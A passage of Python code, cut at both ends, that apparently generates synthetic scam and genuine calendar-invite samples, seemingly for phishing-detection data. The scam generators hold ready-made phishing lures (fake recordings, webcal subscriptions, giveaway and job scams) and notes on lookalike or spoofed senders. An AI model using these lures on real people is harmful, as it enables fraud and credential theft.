        k.update(platform=plat, subject='Invitation: %s' % s, intro='%s has scheduled a meeting with you.' % (brand + ' Talent Team'), note_text=d, display=brand + ' Talent Team',
                 cta=('View details', P[plat]['base'] % alnum(c.rng, 16)), note='job scam booked through a real %s account; messenger link in the notes' % P[plat]['name'])
    elif c.setup in ('google-gmail', 'yahoo', 'icloud', 'outlook-com'):
        k['display'] = c.pick([brand + ' Careers', brand + ' HR', c.sp[0] + ' | ' + brand])
        k['attendees_n'] = c.pick([0, 0, 15])
    else:
        k['note'] = 'job scam from a compromised business account; messenger link'
    return k


def s_recording(c):
    url = c.host_url(['sharepoint', 'notion', 'canva', 'r2', 'pages', 'webflow', 'adobe'])
    kw = base_kw(c, url=url)
    mt = c.pick(['Q3 Budget Review', 'Payroll Adjustment Discussion', 'Board Strategy Session', 'Client Onboarding Call', 'All-Hands Follow-up'])
    en = [('Recording available: ' + mt, 'The recording and AI-generated transcript of "' + mt + '" are now available.\n\nWatch recording: {url}\n\nRecording expires in 7 days.'),
          ('Meeting recap: ' + mt + ' (transcript attached)', 'Hi,\n\nHere is the recap with action items assigned to you. Open the transcript to review your items: {url}\n\nSent by Meeting Notes'),
          ('You were mentioned in "' + mt + '"', 'You were mentioned 3 times in the meeting transcript. View the highlights and the full transcript: {url}'),
          ('Voice memo transcript – ' + mt, 'A transcript of the voice memo recorded during ' + mt + ' has been shared with you. Sign in to view: {url}'),
          ('[Recording] ' + mt + ' – ' + '{date}', 'The host has shared the cloud recording. Passcode required on the viewer page. {url}')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, note='fake meeting recording/transcript notice leading to a login page')
    if c.setup == 'zoom':
        zid = c.rng.randint(81000000000, 89999999999)
        k.update(desc=d, zoom_id=zid, subject='%s Confirmation' % s, intro='Hi %s, thank you for registering for "%s".' % (first(c.rp[0]), s), note_text=d,
                 cta=('Join', 'https://us05web.zoom.us/w/%d?tk=%s' % (zid, alnum(c.rng, 43))), location='https://us05web.zoom.us/j/%d' % zid, display=c.sp[0],
                 note='real Zoom registration whose host text claims a recording and links to a hosted login page')
        return k
    if c.setup == 'platform':
        plat = c.pick(['otter', 'fireflies'])
        k.update(desc=d, platform=plat, subject=c.pick(['%s shared meeting notes: %s', '%s: transcript ready – %s']) % (c.sp[0], mt), intro='%s shared a conversation with you.' % c.sp[0], note_text=d,
                 display=c.sp[0], cta=('Open notes', P[plat]['base'] % alnum(c.rng, 20)), note='real %s share from an attacker workspace; lure in the summary text' % P[plat]['name'])
        return k
    k = place_payload(c, k, url, d, d.replace(url, '').strip(), 'Recording.mp4')
    if c.chance(0.3) and c.setup != 'nextcloud':
        k['mime_attach'] = [{'ctype': 'text/html', 'filename': 'Transcript_%s.html' % c.code(4), 'data': html_payload(c, url, 'Meeting transcript').encode()}]
        k['note'] += ' (+HTML transcript attachment)'
    if c.setup == 'teams':
        k['teams'] = True
        k['display'] = c.pick(['Microsoft Teams', 'Teams Recording', c.sp[0]])
        k['org_override'] = ('Teams Notifications', c.pick(['meetingrecap.onmicrosoft.com', 'recordings-share.onmicrosoft.com', c.so[1]]), 'firm')
    k['attendees_n'] = c.pick([0, 10, 25])
    return k


def s_sharedcal(c):
    url = c.pick(['webcal://%s/cal/%s.ics' % (c.pick(['calendar-sync-alerts.com', 'ical-notify.net', 'prize-calendar.online', 'secure-cal-sync.com']), alnum(c.rng, 12)),
                  'https://calendar.google.com/calendar/render?cid=webcal://%s/%s.ics' % (c.pick(['device-alerts-cal.com', 'cal-reward-center.net']), alnum(c.rng, 10)),
                  c.host_url(['pages', 'firebase', 'canva'])])
    kw = base_kw(c, url=url)
    en = [('{name} shared a calendar with you', '{name} has shared the calendar "Payroll Calendar 2025" with you. Subscribe to receive pay-date reminders and document notices:\n{url}'),
          ('Your iCloud storage is full – photos will be deleted', 'Your storage is full. Upgrade now to keep your photos and videos: {url}'),
          ('Congratulations! You have been selected – claim your reward', 'Your device was selected for a loyalty reward. Confirm within 24 hours: {url}'),
          ('Security alert: virus detected on your device', 'Your device may be infected (3 threats). Tap to start the free scan: {url}'),
          ('Subscribe: Team Holiday Calendar', 'Add the shared team calendar to stay in sync: {url}')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d, method=c.pick(['PUBLISH', 'PUBLISH', 'REQUEST']), note='fake shared calendar / webcal subscription push')
    k['calname'] = c.pick(['Payroll Calendar', 'Security Alerts', 'Rewards', 'Team Holidays', 'Notifications'])
    k['calprops'] = ['X-WR-CALDESC:' + s.replace(',', '\\,'), 'REFRESH-INTERVAL;VALUE=DURATION:PT1H', 'X-PUBLISHED-TTL:PT1H']
    # a multi-event calendar that re-posts the lure on several days
    k['extra_events'] = c.rng.randint(2, 5)
    if c.setup == 'handrolled':
        k['hand_mode'] = c.pick(['spoof', 'lookalike', 'vps-nodkim'])
        k['brand_dom'] = c.lookalike('calendar')
        k['display'] = c.pick(['Google Calendar', 'iCloud', 'Calendar'])
        k['note'] = 'hand-rolled "shared a calendar" notification with a multi-event PUBLISH calendar'
    elif c.setup == 'list':
        k['note'] = 'calendar spam relayed through an open mailing list'
    elif c.setup in ('icloud', 'google-gmail', 'yahoo', 'outlook-com'):
        k['display'] = c.pick(['Calendar', c.sp[0], 'Notifications'])
        k['attendees_n'] = c.pick([20, 60, 100])
        k['note'] = 'calendar spam from a free-mail calendar account with a subscription link'
    return k


def s_promo(c):
    brand = c.pick(['Costco', 'IKEA', 'Lidl', 'Sephora', 'Delta Air Lines', 'Yeti', 'Dyson', 'Lego', 'Nespresso'])
    url = c.host_url(['canva', 'webflow', 'framer', 'wix', 'weebly', 'gsites', 'typeform', 'jotform'])
    kw = base_kw(c, url=url, brand=brand)
    en = [('{brand} 40th Anniversary – you\'re invited to claim your gift', 'To celebrate our anniversary, loyal customers can claim an exclusive gift box. Answer 4 quick questions and pay only shipping: {url}'),
          ('Final notice: your {brand} reward points expire today', 'You have 3,950 unused points. Redeem them now for a reward of your choice before they expire at midnight: {url}'),
          ('{brand} Customer Appreciation Event – free tickets', 'We\'re giving away 500 tickets to our appreciation event. Reserve yours (limit 1 per household): {url}'),
          ('Exclusive invite: {brand} product tester panel', 'You\'ve been selected to test new {brand} products at home and keep them. Complete the short survey to confirm: {url}'),
          ('{brand} Summer Giveaway – winner notification', 'Your email was drawn in our summer giveaway. Confirm your details to receive the prize: {url}')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d, method='PUBLISH', allday=c.chance(0.4), note='brand giveaway / reward survey scam')
    if c.setup == 'platform':
        plat = c.pick(['mailchimp', 'brevo', 'hubspot', 'klaviyo'])
        cdom = c.so[1]
        k.update(platform=plat, subject=s, intro='', note_text=d, display=brand + ' Rewards', esp_from=(brand + ' Rewards', 'news@' + cdom),
                 cta=('Claim now', url), note='sent through a hijacked %s account of an unrelated small business; %s branding' % (P[plat]['name'], brand))
    elif c.setup == 'list':
        k['note'] = 'giveaway scam posted to an unmoderated mailing list'
    elif c.setup == 'handrolled':
        k['hand_mode'] = c.pick(['lookalike', 'spoof', 'vps-nodkim'])
        k['brand_dom'] = c.lookalike(brand)
        k['display'] = brand
        k['note'] = 'hand-rolled giveaway invitation (%s)' % k['hand_mode']
    else:
        k['attendees_n'] = c.pick([50, 120, 200])
        k['note'] = 'giveaway scam blasted from a compromised %s account' % c.setup
    return k


# ============================================================================ HAM
def h_esign(c):
    plat = c.pick(['docusign', 'docusign', 'dropboxsign', 'adobesign', 'pandadoc'])
    doc = c.pick(['Lease Agreement – 14 Elm Street', 'Employment Contract', 'Mutual NDA', 'Statement of Work #%s' % c.code(3), 'Purchase Agreement', 'Consulting Agreement'])
    kw = base_kw(c)
    en = [('Signing call: ' + doc, 'Hi {rname},\n\nAs agreed, let\'s go through the ' + doc + ' together on a short call. I\'ll send the envelope from Docusign right before we start so you can sign while we talk.\n\n{name}\n{org}'),
          ('Please DocuSign: ' + doc, '{name} sent you a document to review and sign. Please complete by {date}. Questions? Call me on {phone}.'),
          ('Reminder: ' + doc + ' awaiting your signature', 'Hello {rname}, friendly reminder that the ' + doc + ' is waiting for your signature. Thanks!'),
          ('Closing appointment – signatures', 'Hi {rname},\nconfirming the closing appointment. Bring a photo ID; the closing documents will be sent via Docusign the day before.\n{name}, {org}'),
          ('Contract review with legal', 'Walk through the redlines on the ' + doc + ' before it goes out for e-signature.')]
    allowed = {'platform': [1, 2], 'handrolled': [3], 'outlook': [0, 4], 'google-ws': [0, 4], 'google-gmail': [0, 3], 'outlook-com': [0, 3]}.get(c.setup)
    s, d = loc(c, kw, en, allowed)
    k = dict(summary=s, desc=d, note='genuine e-signature appointment/envelope')
    if c.setup == 'platform':
        k.update(platform=plat, subject=s if c.lang != 'en' else 'Please sign: %s' % doc, intro='%s sent you a document to review and sign.' % c.sp[0], note_text=d,
                 cta=('Review document', P[plat]['base'] % alnum(c.rng, 32) if P[plat]['base'].count('%s') == 1 else P[plat]['base'] % (uuid4(c.rng), uuid4(c.rng), uuid4(c.rng))),
                 display=c.sp[0], allday=True, days=(3, 10), note='real %s envelope with signing-deadline calendar entry' % P[plat]['name'])
    elif c.setup == 'handrolled':
        k['note'] = 'notary office booking system: signing appointment'
        k['location'] = c.so[0]
    else:
        k['desc'] = d + ('\n\nhttps://%s.docusign.net/Member/EmailStart.aspx?m=%s' % (c.pick(['na3', 'na4', 'eu', 'ca']), uuid4(c.rng)) if c.chance(0.5) else '')
        k['meet'] = c.setup.startswith('google') and c.chance(0.7)
        k['teams'] = c.setup in ('outlook',) and c.chance(0.7)
        k['note'] = 'real contract-signing meeting mentioning an e-signature envelope'
    return k


def h_invoice(c):
    plat = c.pick(['quickbooks', 'xero', 'square', 'stripe', 'paypal'])
    amt = c.amount(80, 4800)
    kw = base_kw(c, amount=amt, phone=c.phone())
    en = [('Invoice {code} due {date}', 'Hi {rname},\n\nYour invoice {code} for {amount} is attached. Payment is due {date}. You can pay online by card or bank transfer.\n\nQuestions? Call us on {phone}.\n\n{org}'),
          ('Payment due: {org} invoice {code}', 'Amount due: {amount}\nDue date: {date}\n\nThank you for your business!'),
          ('Quarterly invoice review with {org}', 'Let\'s review the open invoices and the payment schedule for next quarter. I\'ll share the aging report on screen.\n{name}'),
          ('Rent due – {date}', 'Hi {rname}, friendly reminder: rent of {amount} is due on {date}. Same account as usual. Thanks! {name}'),
          ('Tuition payment deadline', 'The second tuition instalment ({amount}) is due on {date}. Pay through the student portal or call the bursar\'s office on {phone}.')]
    allowed = {'platform': [0, 1], 'handrolled': [1], 'zimbra': [4], 'google-gmail': [3, 2], 'icloud': [3], 'yahoo': [3], 'outlook': [2], 'google-ws': [2]}.get(c.setup)
    s, d = loc(c, kw, en, allowed)
    k = dict(summary=s, desc=d, note='genuine invoice / payment due date')
    if c.setup == 'platform':
        k.update(platform=plat, subject={'en': 'Invoice %s from %s' % (c.code(5), c.so[0])}.get(c.lang, s), intro='%s sent you an invoice for %s.' % (c.so[0], amt), note_text=d,
                 display=c.so[0], cta=('Review and pay', P[plat]['base'] % alnum(c.rng, 20)), allday=True, days=(10, 30),
                 note='real %s invoice with due-date calendar entry; amount and phone number' % P[plat]['name'])
    elif c.setup == 'handrolled':
        k['note'] = 'utility/company billing system: payment due date reminder'
        k['allday'] = True
    elif c.setup == 'zimbra':
        c.so = c.org(kind='school')
        k['note'] = 'university bursar: tuition payment deadline'
    else:
        k['allday'] = c.chance(0.4)
    return k


def h_form(c):
    fk = c.pick(['msforms', 'gforms', 'jotform', 'typeform'])
    url = c.host_url([fk])
    kw = base_kw(c, url=url)
    en = [('Parent-teacher conference sign-up', 'Dear families,\n\nPlease choose a conference slot using the form below by {date}.\n{url}\n\nThank you,\n{name}'),
          ('Team offsite – dietary requirements', 'Hi all, please fill in the form for dietary needs and travel: {url}\nDeadline {date}. Thanks!'),
          ('Course evaluation – please respond', 'Your feedback helps us improve. The evaluation is anonymous and takes about 5 minutes: {url}'),
          ('Volunteer shift preferences – spring fair', 'Please pick your preferred volunteer shifts in the form: {url}'),
          ('Annual staff survey (anonymous)', 'The annual staff survey is open until {date}. You do not need to sign in; responses are anonymous. {url}\nPeople & Culture')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d, note='genuine form/survey invitation')
    if c.setup == 'platform':
        plat = c.pick(['jotform', 'typeform', 'msforms', 'surveymonkey'])
        k.update(platform=plat, subject=s, intro='%s invited you to fill out a form.' % c.so[0], note_text=d, display=c.so[0],
                 cta=('Fill out form', P[plat]['base'] % alnum(c.rng, 12)), allday=True, days=(1, 7), note='real %s form invitation with deadline' % P[plat]['name'])
    else:
        k['attendees_n'] = c.pick([0, 30, 120, 250]) if c.setup in ('google-ws', 'outlook', 'zimbra', 'sogo') else 0
        if c.setup in ('zimbra', 'sogo'):
            c.so = c.org(kind='school')
        k['allday'] = c.chance(0.5)
    return k


def h_fileshare(c):
    fname = c.pick(['Floor plans rev C', 'Q3 report draft', 'Budget 2025', 'Site photos', 'Grant application', 'Board pack']) 
    kw = base_kw(c)
    k = dict(note='genuine file share between colleagues')
    if c.setup in ('google-ws', 'google-gmail'):
        url = 'https://docs.google.com/document/d/1%s/edit?usp=sharing' % alnum(c.rng, 43)
        k['attach'] = [{'uri': 'https://drive.google.com/open?id=1%s' % alnum(c.rng, 32), 'filename': fname, 'fmttype': c.pick(['application/vnd.google-apps.document', 'application/vnd.google-apps.spreadsheet', 'application/pdf'])}]
        k['meet'] = c.chance(0.7)
        k['note'] = 'Google Calendar meeting with a Drive attachment'
    elif c.setup in ('outlook',):
        url = 'https://%s-my.sharepoint.com/:f:/g/personal/%s/E%s?e=%s' % (c.so[1].split('.')[0].replace('-', ''), c.sp[1].replace('.', '_') + '_' + c.so[1].replace('.', '_').replace('-', ''), alnum(c.rng, 42), alnum(c.rng, 6))
        k['teams'] = c.chance(0.6)
        k['note'] = 'Outlook meeting with a SharePoint/OneDrive folder link'
    elif c.setup == 'nextcloud':
        url = 'https://cloud.%s/s/%s' % (c.so[1], alnum(c.rng, 15))
        k['note'] = 'Nextcloud meeting invitation with a public share link'
    elif c.setup == 'platform':
        plat = c.pick(['dropbox', 'wetransfer', 'box'])
        url = P[plat]['base'] % alnum(c.rng, 16)
    else:
        url = 'https://www.dropbox.com/scl/fo/%s/%s?rlkey=%s&dl=0' % (alnum(c.rng, 21).lower(), alnum(c.rng, 20), alnum(c.rng, 25).lower())
    kw['url'] = url
    en = [('Review: ' + fname, 'Hi {rname},\n\nI\'ve shared "' + fname + '" with you: {url}\nCan we go through your comments in this slot?\n\n{name}'),
          ('Site meeting – drawings in shared folder', 'Latest drawings are in the shared folder: {url}\nSee you on site.\n{name}'),
          ('Edit session: ' + fname, 'Working session to finalise the document together. Link: {url}'),
          ('Photo handover', 'Hi! Uploaded all the photos from Saturday here: {url}\nLet\'s pick the ones for the newsletter.'),
          ('Catch-up on ' + fname, 'Agenda: open questions in the doc ({url}), next steps.')]
    s, d = loc(c, kw, en)
    k.update(summary=s, desc=d)
    if c.setup == 'platform':
        link = url
        k.update(platform=plat, desc=d, subject={'en': '%s shared "%s" with you' % (c.sp[0], fname)}.get(c.lang, s), intro='%s shared files with you.' % c.sp[0], note_text=d,
                 display=c.sp[0], cta=('View files', link), allday=True, days=(5, 7), note='real %s share with link-expiry calendar entry' % P[plat]['name'])
        k['summary'] = {'en': 'Link expires: %s' % fname}.get(c.lang, s)
    k['attendees_n'] = c.pick([0, 2, 5])
    return k


def h_webinar(c):
    kw = base_kw(c)
    topic = c.pick(['Year-end payroll changes explained', 'Cybersecurity basics for small practices', 'What\'s new in Microsoft 365 admin', 'Applying for the regional export grant', 'Managing cash flow in uncertain times'])
    k = dict(note='genuine webinar registration', hours=(10, 16), dur=(45, 90))
    if c.setup == 'zoom':
        zid = c.rng.randint(81000000000, 89999999999)
        join = 'https://us02web.zoom.us/w/%d?tk=%s' % (zid, alnum(c.rng, 43))
        kw['url'] = join
        s, d = loc(c, kw, [(topic, 'Thank you for registering. Please submit any questions to: webinars@%s\n\nJoin from PC, Mac, iPad, or Android: {url}\nPasscode: %s\n\nOr one tap mobile: +16465588656,,%d# US (New York)' % (c.so[1], c.code(6), zid))])
        k.update(summary=s, desc=d, subject='%s Confirmation' % s, intro='Hi %s,\n\nThank you for registering for "%s".' % (first(c.rp[0]), s), note_text=None,
                 cta=('Join webinar', join), location=join, display=c.so[0], zoom_id=zid, note='real Zoom webinar registration confirmation (passcode, dial-in numbers)')
        return k
    if c.setup == 'platform':
        plat = c.pick(['eventbrite', 'luma', 'gotowebinar', 'livestorm'])
        join = P[plat]['base'] % alnum(c.rng, 12)
        kw['url'] = join
        s, d = loc(c, kw, [(topic, 'You\'re registered. Add this event to your calendar; the join link is unique to you: {url}\nHosted by {org}.')])
        k.update(summary=s, desc=d, platform=plat, subject=c.pick(['Your registration for %s', "You're in! %s", 'Confirmed: %s']) % s, intro='You are registered for %s.' % s,
                 note_text=d, cta=('Join event', join), display=c.so[0], method='PUBLISH', note='real %s webinar registration' % P[plat]['name'])
        return k
    kw['url'] = 'https://teams.microsoft.com/l/meetup-join/19%%3ameeting_%s%%40thread.v2/0' % alnum(c.rng, 40) if c.setup == 'teams' else 'https://meet.google.com/%s-%s-%s' % (alnum(c.rng, 3).lower(), alnum(c.rng, 4).lower(), alnum(c.rng, 3).lower())
    s, d = loc(c, kw, [(topic, 'Registration confirmed for our customer webinar. The session will be recorded. Join link: {url}')])
    k.update(summary=s, desc=d, teams=(c.setup == 'teams'), meet=c.setup.startswith('google'), attendees_n=c.pick([80, 200, 350]), note='customer webinar invitation with a large attendee list')
    return k


def h_colleague(c):
    kind = c.pick(['firm', 'school', 'clinic', 'firm'])
    c.so = c.org(kind=kind)
    kw = base_kw(c, org=c.so[0])
    en = [('Weekly team sync', 'Agenda:\n- status round\n- blockers\n- holiday cover\n\n{name}'),
          ('Staff meeting – term planning', 'All staff please attend. We will go through the timetable changes and the inspection schedule. Coffee provided.'),
          ('1:1 {rname} / {name}', ''),
          ('Clinic huddle – new booking workflow', 'Quick walkthrough of the new booking workflow before it goes live on Monday.\n{name}'),
          ('Lunch with the Hartley account team', 'Table booked at Rosa\'s, 12:30. {name}'),
          ('All-hands: annual results', 'Please join the annual all-hands. Questions can be submitted in advance via the intranet.')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d, colleague=True, note='ordinary meeting between colleagues at a %s' % kind)
    if c.en_i % 6 == 5 or c.chance(0.15):
        k['attendees_n'] = c.pick([150, 260, 400])
        k['note'] = 'all-staff meeting with hundreds of attendees'
    else:
        k['attendees_n'] = c.pick([1, 2, 4, 7])
    k['meet'] = c.setup.startswith('google') and c.chance(0.6)
    k['teams'] = c.setup == 'outlook' and c.chance(0.5)
    k['location'] = c.pick(['Meeting room 2', 'Staff room', 'Conference Room B', 'Room 104', '']) if not k.get('teams') else 'Microsoft Teams Meeting'
    if c.chance(0.25):
        k['rrule'] = 'FREQ=WEEKLY;BYDAY=%s' % c.pick(['MO', 'TU', 'WE', 'TH', 'FR'])
    return k


def h_itsec(c):
    kw = base_kw(c)
    en = [('Mandatory: MFA enrolment session', 'Hi all,\n\nFrom {date} all sign-ins to Microsoft 365 require the Microsoft Authenticator app. In this session we will set it up together. Bring your work phone.\n\nSelf-service setup: https://aka.ms/mfasetup\nIT will never ask you for your password or for a code by phone or email.\n\nIT Service Desk ({phone})'),
          ('Security awareness training – phishing & QR codes', 'Annual security awareness training (45 min). Topics: recognising phishing, QR-code scams, fake "verify you are human" pages and why you must never paste commands into Run or PowerShell.\nAttendance is tracked.'),
          ('Passkey rollout: drop-in help desk', 'Drop in if you need help registering a passkey for your Google account. Start here: https://myaccount.google.com/signinoptions/passkeys\n{name}, IT'),
          ('Laptop re-imaging appointment', 'Your laptop is scheduled for re-imaging. Please back up local files and bring the device and charger to the IT desk. Verify this appointment on the service portal (ticket INC{code}).'),
          ('Identity verification for new payroll system', 'As announced by HR, new starters must verify identity in person before payroll access is enabled. Bring photo ID. No action needed online.')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d, attendees_n=c.pick([20, 60, 150, 300]), note='genuine IT security session (MFA enrolment, awareness training)')
    if c.setup == 'teams':
        k['teams'] = True
    elif c.setup.startswith('google'):
        k['meet'] = True
    elif c.setup == 'booking':
        plat = 'doctolib' if c.lang == 'fr' else None
        k['booking'] = dict(name=c.pick(['TechCare Service Center', 'Repair Point']), dom=c.pick(['techcare-service.com', 'repairpoint.eu']), mode='pass')
        k['summary'] = {'en': 'Appointment confirmed: device repair %s' % c.code(6)}.get(c.lang, s)
        if c.lang == 'en':
            k['desc'] = 'Your appointment is confirmed. Please back up your device and disable Find My before drop-off. Reference %s. To reschedule, call %s.' % (c.code(6), c.phone())
        k['attendees_n'] = 0
        k['note'] = 'repair-centre appointment confirmation from a booking system'
    elif c.setup == 'handrolled':
        k['note'] = 'IT training registration system: session confirmation'
        k['attendees_n'] = 0
    return k


def h_qr(c):
    img = qr_like_png(c.rng)
    kw = base_kw(c)
    en = [('Your ticket: Northern Lights Jazz Night', 'Order #{code}. Show the QR code at the entrance (printed or on your phone). Doors open 19:00.'),
          ('Conference badge – DevSummit', 'Your attendee badge QR code is attached. Scan it at registration to print your badge.'),
          ('Visitor pass for {date}', 'Hi {rname}, your visitor pass for our office is attached. Show the QR code at reception. {name}'),
          ('Museum entry – timed ticket', 'Timed entry ticket. Booking reference {code}. Present the QR code at the gate.'),
          ('Club dinner – entry code', 'Your place is booked. The QR code below is your entry pass. See you there!')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d, qr=img, method='PUBLISH' if c.setup in ('platform', 'booking', 'handrolled') else 'REQUEST', note='genuine ticket/pass with QR code')
    mode = c.pick(['mime', 'mime', 'inline-ics'])
    if mode == 'inline-ics':
        k['attach'] = [{'binary': img, 'fmttype': 'image/png', 'filename': 'ticket_qr.png'}]
    else:
        k['mime_attach'] = [{'ctype': 'image/png', 'filename': c.pick(['ticket.png', 'qr-code.png', 'badge.png', 'boarding-pass.png']), 'data': img}]
    if c.setup == 'platform':
        plat = c.pick(['eventbrite', 'ticketmaster', 'meetup'])
        k.update(platform=plat, subject=c.pick(['Your tickets for %s', 'Order confirmation: %s']) % s, intro='Thanks for your order!', note_text=d, display=c.so[0],
                 cta=('View tickets', P[plat]['base'] % alnum(c.rng, 12)), note='real %s ticket with QR code and calendar entry' % P[plat]['name'])
    elif c.setup == 'booking':
        k['booking'] = dict(name=c.pick(['SkyNordic Airlines', 'AeroSol', 'Jetstream Air']), dom=c.pick(['skynordic.com', 'aerosol-air.com', 'jetstreamair.com']), mode='pass')
        if c.lang == 'en':
            k['summary'] = 'Flight %s%s – boarding pass' % (c.pick(['SN', 'AS', 'JX']), c.code(4))
            k['desc'] = 'Your boarding pass is attached. Gate closes 20 minutes before departure. Booking reference %s.' % alnum(c.rng, 6).upper()
        k['note'] = 'airline boarding pass with QR code'
    return k


def h_agenda(c):
    kw = base_kw(c)
    en = [('Board meeting – agenda and papers attached', 'Dear all,\nplease find attached the agenda and board papers.\n{name}'),
          ('Design review – slides attached', 'Slides attached. Please review before the meeting.'),
          ('PTA committee meeting', 'Agenda and last minutes attached.\n{name}'),
          ('Budget workshop', 'Attached: draft budget (xlsx) and the HTML export of the planning page for those without Excel.'),
          ('Quarterly safety briefing', 'Presentation attached.')]
    s, d = loc(c, kw, en)
    kind = c.pick(['pdf', 'pdf', 'html', 'svg', 'docx'])
    fname = {'pdf': 'Agenda_%s.pdf', 'html': 'Planning_export_%s.html', 'svg': 'floorplan_%s.svg', 'docx': 'Minutes_%s.docx'}[kind] % c.code(4)
    if kind == 'pdf':
        data, ct = fake_pdf('Agenda', ['1. Welcome', '2. Minutes of last meeting', '3. Finance report', '4. AOB']), 'application/pdf'
    elif kind == 'html':
        data, ct = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Planning</title></head><body><h1>Planning</h1><table border="1"><tr><th>Item</th><th>Owner</th></tr><tr><td>Budget</td><td>%s</td></tr></table></body></html>' % c.sp[0]).encode('utf-8'), 'text/html'
    elif kind == 'svg':
        data, ct = b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><rect x="10" y="10" width="380" height="280" fill="none" stroke="#000"/><text x="30" y="50">Room A</text><text x="220" y="50">Room B</text></svg>\n', 'image/svg+xml'
    else:
        data, ct = b'PK\x03\x04' + bytes(c.rng.randrange(256) for _ in range(600)), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
    k = dict(summary=s, desc=d, note='genuine meeting invite with %s attachment' % kind.upper(), attendees_n=c.pick([3, 6, 12, 25]))
    if c.setup == 'outlook-desktop' and c.chance(0.6):
        k['attach'] = [{'binary': data, 'fmttype': ct, 'filename': fname}]
        k['note'] += ' embedded in the VEVENT (Outlook)'
    else:
        k['mime_attach'] = [{'ctype': ct, 'filename': fname, 'data': data}]
    return k


def h_callback(c):
    brand = c.pick(['Apple Support', 'Northway Broadband', 'City Dental', 'HomeShield Insurance', 'Vodafone', 'Canon Service'])
    kw = base_kw(c, brand=brand, phone=c.phone())
    en = [('Apple Support callback – case {code}', 'An Apple Support Advisor will call you at {phone} at the scheduled time. Case ID: {code}. To reschedule, use the link in your confirmation email.'),
          ('Technician visit window', 'Your technician will arrive between 8:00 and 12:00. They will call {phone} 30 minutes before arrival. Reference {code}.'),
          ('Dental appointment – Dr. Hughes', 'Please arrive 10 minutes early. To cancel or reschedule call {phone} at least 24 hours in advance.'),
          ('Claims callback – policy {code}', 'Your claims handler will call you on {phone}. Please have your policy number ready. We will never ask for your online banking password.'),
          ('Call with {brand} about your order', 'Scheduled callback about order {code}. Our agent will call {phone}.')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d, location=c.pick([kw['phone'], 'Phone call', '']), note='genuine support callback / appointment with a phone number')
    if c.setup == 'platform':
        plat = c.pick(['applesupport', 'calendly', 'doctolib'])
        k.update(platform=plat, subject={'en': 'Your %s is confirmed' % c.pick(['callback', 'appointment'])}.get(c.lang, s), intro='Your appointment is confirmed.', note_text=d, display=P[plat]['name'] if plat != 'calendly' else brand,
                 cta=('Manage appointment', P[plat]['base'] % alnum(c.rng, 14)), note='real %s appointment/callback confirmation' % P[plat]['name'])
    elif c.setup == 'booking':
        k['booking'] = dict(name=c.pick(['SkyNordic Airlines', 'Aurora Hotels', 'Praxisbuchung']), dom=c.pick(['skynordic.com', 'aurorahotels.com', 'praxisbuchung.de']), mode='pass')
        if c.lang == 'en':
            k['summary'] = 'Rebooking call – booking %s' % alnum(c.rng, 6).upper()
            k['desc'] = 'As requested, our service team will call you at %s to discuss your rebooking options.' % kw['phone']
        k['note'] = 'booking-system confirmation of a requested service callback'
    return k


def h_recruiter(c):
    kw = base_kw(c)
    role = c.pick(['Senior Data Analyst', 'Product Designer', 'Site Reliability Engineer', 'Practice Manager', 'Account Executive'])
    en = [('Interview: ' + role + ' – {org}', 'Hi {rname},\n\nThanks for your time earlier. This invite is for the first-round video interview with the hiring manager (45 min). No preparation needed beyond your CV.\n\nBest,\n{name}\nTalent Acquisition, {org}'),
          ('Intro call – ' + role + ' opportunity', 'Hi {rname}, great connecting on LinkedIn. Here is the intro call we discussed. Happy to share the job description beforehand.\n{name}'),
          ('Technical interview – ' + role, 'Pair-programming session with two engineers. Please use a laptop with a working camera.'),
          ('Onsite interview schedule – ' + role, 'Schedule: 10:00 hiring manager, 11:00 team panel, 12:00 lunch. Ask for {name} at reception.'),
          ('Quick chat about the ' + role + ' role', 'As mentioned I usually do first calls on WhatsApp voice if easier for you – otherwise the Meet link below works. {name}')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d, note='genuine recruiter interview invitation')
    if c.setup == 'platform':
        plat = c.pick(['calendly', 'greenhouse'])
        k.update(platform=plat, subject='Invitation: %s' % s, intro='%s has scheduled an interview with you.' % c.so[0], note_text=d, display=c.so[0],
                 cta=('View details', P[plat]['base'] % alnum(c.rng, 16)), note='real %s interview scheduling' % P[plat]['name'])
    else:
        k['meet'] = c.setup.startswith('google')
        k['teams'] = c.setup == 'outlook'
    return k


def h_recording(c):
    kw = base_kw(c)
    mt = c.pick(['Sprint review', 'Board meeting', 'Customer kickoff', 'Weekly product sync', 'Research interview #%s' % c.code(2)])
    k = dict(note='genuine meeting recording / transcript notice', updated=True, seq=1)
    if c.setup == 'zoom':
        zid = c.rng.randint(81000000000, 89999999999)
        url = 'https://us02web.zoom.us/rec/share/%s' % alnum(c.rng, 64)
        kw['url'] = url
        s, d = loc(c, kw, [(mt, 'Recording of the previous session: {url}\nPasscode: %s\n\nJoin the next session: https://us02web.zoom.us/j/%d?pwd=%s' % (alnum(c.rng, 8), zid, alnum(c.rng, 32)))])
        k.update(summary=s, desc=d, subject='%s Confirmation' % s, intro='Hi %s, you are registered for the next session of "%s".' % (first(c.rp[0]), s), note_text=None,
                 cta=('Join', 'https://us02web.zoom.us/w/%d' % zid), location='https://us02web.zoom.us/j/%d' % zid, display=c.so[0], zoom_id=zid,
                 note='Zoom series registration including last session\'s recording link')
        return k
    if c.setup == 'platform':
        plat = c.pick(['otter', 'fireflies'])
        url = P[plat]['base'] % alnum(c.rng, 20)
        kw['url'] = url
        s, d = loc(c, kw, [('Notes: ' + mt, 'Summary, action items and the full transcript of "' + mt + '": {url}')])
        k.update(summary=s, desc=d, platform=plat, subject='%s shared notes: %s' % (c.sp[0], mt), intro='%s shared a conversation with you.' % c.sp[0], note_text=d, display=c.sp[0],
                 cta=('Open notes', url), note='real %s meeting notes share with calendar entry' % P[plat]['name'])
        return k
    if c.setup == 'teams':
